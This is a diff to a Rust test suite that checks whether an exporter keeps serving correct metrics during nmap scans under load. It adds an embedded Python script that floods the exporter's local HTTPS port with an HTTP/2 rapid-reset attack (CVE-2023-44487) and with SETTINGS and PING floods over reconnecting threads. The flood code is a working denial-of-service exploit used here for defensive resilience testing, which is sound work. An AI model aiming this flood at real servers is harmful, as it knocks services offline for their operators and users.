@@ -32,18 +32,71 @@ print(len(made) / seconds, 'requests a second', len(wrong), 'wrong')
 sys.exit(1 if wrong or not made else 0)
 ";
 
+/// Floods of HTTP/2 for some seconds, from four connections at a time: requests that are taken back at once (CVE-2023-44487), settings and
+/// pings. Whoever is cut comes again.
+const FLOOD: &str = "
+import socket, ssl, sys, threading, time
+until = time.monotonic() + float(sys.argv[1])
+context = ssl.create_default_context(cafile=sys.argv[2])
+context.set_alpn_protocols(['h2'])
+def frame(kind, flags, stream, payload=b''):
+    return len(payload).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + payload
+get = b'\\x82\\x87\\x04\\x08/metrics\\x01\\x04test'
+def requests(n):
+    return b''.join(frame(1, 5, 2 * (n * 50 + m) + 1, get) + frame(3, 0, 2 * (n * 50 + m) + 1, bytes([0, 0, 0, 8])) for m in range(50))
+floods = [requests, lambda n: frame(4, 0, 0, bytes([0, 3, 0, 0, 0, 9])) * 100, lambda n: frame(6, 0, 0, b'pingping') * 100]
+connections = [0]
+def attack(flood):
+    while time.monotonic() < until:
+        try:
+            with context.wrap_socket(socket.create_connection(('127.0.0.1', 10220), 5), server_hostname='localhost') as tls:
+                connections[0] += 1
+                tls.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + frame(4, 0, 0))
+                tls.settimeout(1)
+                n = 0
+                while time.monotonic() < until:
+                    tls.sendall(flood(n))
+                    n += 1
+        except OSError:
+            pass
+all = [threading.Thread(target=attack, args=(floods[n % 3],)) for n in range(4)]
+for one in all: one.start()
+for one in all: one.join()
+print(connections[0], 'connections')
+sys.exit(0 if connections[0] else 1)
+";
+
+/// The attacker reaches the port and speaks HTTP/2. The capture has threads of its own, and feels nothing.
+#[test]
+fn a_flood_of_http2_during_a_scan_loses_nothing() {
+    in_room("load::a_flood_of_http2_during_a_scan_loses_nothing", |lab| {
+        let pki = Pki::new();
+        pki.write("web.yml", "tls_server_config: {cert_file: server.pem, key_file: server.key}\n");
+        under(lab, &pki, "https", |seconds, authority| {
+            let mut flood = lab.on("t", "/usr/bin/python3");
+            flood.args(["-c", FLOOD, seconds, authority]);
+            flood
+        });
+    });
+}
+
 #[test]
 fn a_load_of_scrapes_during_a_scan_loses_nothing() {
     in_room("load::a_load_of_scrapes_during_a_scan_loses_nothing", |lab| {
         let pki = Pki::new();
         pki.write("web.yml", "tls_server_config: {cert_file: server.pem, key_file: server.key}\n");
         for scheme in ["http", "https"] {
-            under_load(lab, &pki, scheme);
+            under(lab, &pki, scheme, |seconds, authority| {
+                let mut load = lab.on("t", "/usr/bin/python3");
+                load.args(["-c", LOAD, scheme, seconds, authority]);
+                load
+            });
         }
     });
 }
 
-fn under_load(lab: &Lab, pki: &Pki, scheme: &str) {
+/// An exporter during scans, under what a program does to its pages for so many seconds.
+fn under(lab: &Lab, pki: &Pki, scheme: &str, load: impl Fn(&str, &str) -> Command) {
     let seconds = std::env::var("PORTSCAN_LOAD_SECONDS").unwrap_or_else(|_| String::from("8"));
     let config = format!("--web.config.file={}", pki.path().join("web.yml").display());
     let mut command = lab.exporter_command(&["--log.format=journald"]);
@@ -71,12 +124,7 @@ fn under_load(lab: &Lab, pki: &Pki, scheme: &str) {
     let scan = || lab.nmap(&["-sS", "-p1-20000", "192.0.2.10"]);
     scan();
     let before = page().unwrap();
-    let load: Command = {
-        let mut load = lab.on("t", "/usr/bin/python3");
-        load.args(["-c", LOAD, scheme, &seconds, &authority]).stdout(Stdio::piped());
-        load
-    };
-    let mut load = Ended({ load }.spawn().unwrap());
+    let mut load = Ended(load(&seconds, &authority).stdout(Stdio::piped()).spawn().unwrap());
     while load.0.try_wait().unwrap().is_none() {
         scan();
     }
